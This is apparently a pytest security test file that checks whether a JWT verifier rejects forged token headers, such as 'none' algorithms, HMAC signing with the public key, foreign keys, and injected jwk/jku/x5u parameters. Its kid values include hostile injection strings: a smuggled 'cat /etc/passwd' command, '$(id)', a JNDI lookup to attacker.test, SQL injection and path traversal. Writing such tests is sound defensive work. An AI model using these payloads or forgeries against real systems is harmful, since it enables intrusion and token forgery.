"""Algorithm, key and type: the token may name them, and decides none (RFC 8725 sections 3.1, 3.10, 3.11)."""

import json
from typing import Any

import pytest
from joserfc.jwk import ECKey, OKPKey, RSAKey

from tests.security.conftest import Denied
from tests.security.forging import Forgeries, Forgery, by, by_hmac, each, head, raw_head, unsigned
from tests.support.identity import ISSUER, KEY, claims, compact, decode, header, new_key

_STRANGER = new_key("key-1")
_PUBLIC = KEY.as_dict(private=False)
_PEM = KEY.as_pem(private=False)
_URL = "https://attacker.test/keys"

_NONE = ("none", "None", "NONE", "nOnE", " none")
_NO_ALGORITHM = ("es256", "ES256 ", "ES256\0", "ES256K", "RS256", "HS256", "")
_NO_TEXT: tuple[Any, ...] = (None, 1, ["ES256"], {})

ALGORITHMS: Forgeries = {
    **{f"{name}, unsigned": one for name, one in each("alg", _NONE, "algorithm", unsigned).items()},
    **each("alg", (*_NONE, *_NO_ALGORITHM), "algorithm", head),
    **each("alg", _NO_TEXT, "header", head),
    "alg missing": ("header", head(alg=...)),
    "alg twice": ("json", raw_head('{"alg":"none","alg":"ES256","typ":"at+jwt","kid":"key-1"}')),
    "HS256 by the public key as PEM": ("algorithm", by_hmac(_PEM)),
    "HS256 by the public key as PEM, stripped": ("algorithm", by_hmac(_PEM.strip())),
    "HS256 by the public key as JWK": ("algorithm", by_hmac(json.dumps(_PUBLIC).encode())),
    "HS256 by the public key's point": ("algorithm", by_hmac(decode(str(_PUBLIC["x"]) + str(_PUBLIC["y"])))),
    "HS256 by the key's name": ("algorithm", by_hmac(b"key-1")),
    "RS256 by another key": ("algorithm", by(RSAKey.generate_key(2048), "RS256")),
    "PS256 by another key": ("algorithm", by(RSAKey.generate_key(2048), "PS256")),
    "ES384 by another key": ("algorithm", by(ECKey.generate_key("P-384"), "ES384")),
    "ES512 by another key": ("algorithm", by(ECKey.generate_key("P-521"), "ES512")),
    "ES256K by another key": ("algorithm", by(ECKey.generate_key("secp256k1"), "ES256K")),
    "EdDSA by another key": ("algorithm", by(OKPKey.generate_key("Ed25519"), "EdDSA")),
    "ES256 by another key under our kid": ("signature", by(_STRANGER, "ES256")),
}

_KIDS = (
    "",
    "key-2",
    "KEY-1",
    "key-1 ",
    "key-1\0",
    "../../../../dev/null",
    "/proc/self/environ",
    "key-1' UNION SELECT 'secret",
    "key-1; cat /etc/passwd",
    "$(id)",
    "${jndi:ldap://attacker.test}",
    _URL,
)

_PARAMETERS: dict[str, Any] = {
    "jwk": _PUBLIC,
    "jku": _URL,
    "x5u": _URL,
    "x5c": ["MIIB"],
    "x5t": "AAAA",
    "x5t#S256": "AAAA",
    "crit": ["exp"],
    "b64": True,
    "zip": "DEF",
    "cty": "JWT",
    "enc": "A128GCM",
    "epk": _PUBLIC,
    "p2c": 2**31,
    "iss": ISSUER,
    "anything": 1,
}

KEYS: Forgeries = {
    **each("kid", _KIDS, "unknown_key", head),
    **each("kid", (1, None, True, ["key-1"], {"key-1": "key-1"}), "header", head),
    "a kid of another's key": ("unknown_key", by(new_key("key-2"), "ES256", kid="key-2")),
    "kid missing": ("header", head(kid=...)),
    "kid twice": ("json", raw_head('{"alg":"ES256","typ":"at+jwt","kid":"key-2","kid":"key-1"}')),
    "the attacker's key in jwk": ("header", by(_STRANGER, "ES256", jwk=_STRANGER.as_dict(private=False))),
    "jwk instead of kid": ("header", by(_STRANGER, "ES256", kid=..., jwk=_STRANGER.as_dict(private=False))),
    **{f"{name} in the header": ("header", head(**{name: value})) for name, value in _PARAMETERS.items()},
    "crit of nothing": ("header", head(crit=[])),
    "crit of what the header has": ("header", head(crit=["b64"], b64=True)),
    "an unencoded payload by RFC 7797": ("header", head(crit=["b64"], b64=False)),
}

_TYPES: tuple[Any, ...] = (
    "",
    "jwt",
    "AT+JWT",
    "at+jwt ",
    "at+jwt;v=1",
    "logout+jwt",
    "dpop+jwt",
    None,
    1,
    ["at+jwt"],
    {},
)

TYPES: Forgeries = {
    "an id token": ("type", lambda: compact(header(typ="JWT"), claims(nonce="n", auth_time=1))),
    "typ missing": ("header", head(typ=...)),
    **each("typ", _TYPES, "type", head),
    "the header an array": ("json", raw_head('["alg","ES256"]')),
    "the header a string": ("json", raw_head('"ES256"')),
    "the header not JSON": ("json", raw_head("alg=ES256")),
    "the header in UTF-16": ("json", lambda: compact(json.dumps(header()).encode("utf-16"), claims())),
    "the header deep": ("json", raw_head("[" * 500)),
    "the header long": ("oversized", head(kid="key-1" + "x" * 500)),
}

_ALL = {**ALGORITHMS, **KEYS, **TYPES}


@pytest.mark.parametrize(("reason", "forgery"), _ALL.values(), ids=_ALL.keys())
def test_a_forged_header_is_denied(reason: str, forgery: Forgery, denied: Denied) -> None:
    assert denied(f"Bearer {forgery()}") == reason
